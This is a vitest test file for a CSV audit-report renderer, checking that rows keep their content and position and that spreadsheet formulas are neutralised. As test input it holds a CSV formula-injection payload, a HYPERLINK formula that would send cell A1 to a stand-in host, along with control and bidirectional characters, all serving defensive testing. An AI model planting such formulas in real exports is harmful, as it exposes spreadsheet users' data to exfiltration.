// audit.csv, read back by another program: the audit is in it, and text of others is neither a formula nor a cell of its own.
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import type { Audit } from '../properties/result.ts';
import { renderCsv } from '../reports/formats/csv.ts';
import { audit, everything, gateOf, judged } from './audit-fixture.ts';

describe('CSV', () => {
  const rowsOf = (made: Audit, text = renderCsv(made, gateOf(made))): readonly Readonly<Record<string, string>>[] =>
    parse(text, { columns: true, record_delimiter: '\r\n' });

  test('has a row for each line and design, with what the audit has of it', () => {
    const made = everything();
    const rows = rowsOf(made);
    const lines = made.designs.flatMap(({ name, lines: all }) => all.map((line) => ({ design: name, line })));
    expect(rows).toHaveLength(lines.length);
    for (const [i, { design, line }] of lines.entries()) {
      const { property, requirement, observer, says, claim, method, scope, verdict, hits, chances, runs } = line;
      const [first] = line.evidence;
      expect(rows[i]).toMatchObject({ property, requirement, design, observer, says, claim, method, scope, verdict });
      expect(rows[i]).toMatchObject({ hits: String(hits), chances: String(chances), runs: String(runs) });
      expect(rows[i]).toMatchObject({ declared: line.expected, 'as declared': line.asExpected ? 'yes' : 'no' });
      expect(rows[i]).toMatchObject({ story: first?.story ?? '', evidence: first?.id ?? '' });
      if (first !== undefined) expect(rows[i]?.['replay']).toBe(first.replay);
    }
    // Of a line that has no evidence, what the gate says shows it again.
    expect(rows.find((row) => row['gate'] === 'undecided')?.['replay']).toContain('--property R4.1-altered');
    const of = (property: string) => rows.find((row) => row['design'] === 'sealed' && row['property'] === property);
    expect(of('R4.1-read')).toMatchObject({ gate: 'fails', waiver: '' });
    expect(of('R4.1-intruder')).toMatchObject({
      gate: 'waived',
      waiver: 'Waived by Ann until 2027-02-01: until 1.4',
    });
    expect(of('R3.1-onward')).toMatchObject({ gate: '' });
  });

  test.each(['=', '+', '-', '@', '\t=', '\r@', '＝'])('has no formula in a cell that begins with %j', (sign) => {
    const [draft, ...others] = audit().designs as [Audit['designs'][number], ...Audit['designs']];
    const words = `${sign}HYPERLINK("http://x/?"&A1;"a, b")`;
    const lines = draft.lines.map((line) => ({ ...line, claim: words, observer: words }));
    const made = audit({ designs: [{ ...draft, name: words, lines }, ...others] });
    const text = renderCsv(made, judged(made));
    for (const row of rowsOf(made, text).slice(0, lines.length))
      for (const name of ['design', 'observer', 'claim']) expect(row[name]).toBe(`'${words.trim()}`);
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r＝]/.test(cell))).toEqual([]);
  });

  test('keeps a row in its place whatever a scenario says', () => {
    const made = everything(' "a",\r\nb\u0000;\u202e');
    expect(rowsOf(made).map((row) => row['property'])).toEqual(rowsOf(everything()).map((row) => row['property']));
    expect(rowsOf(made).map((row) => row['claim'])).toContain('read a command "a", b ;');
  });
});
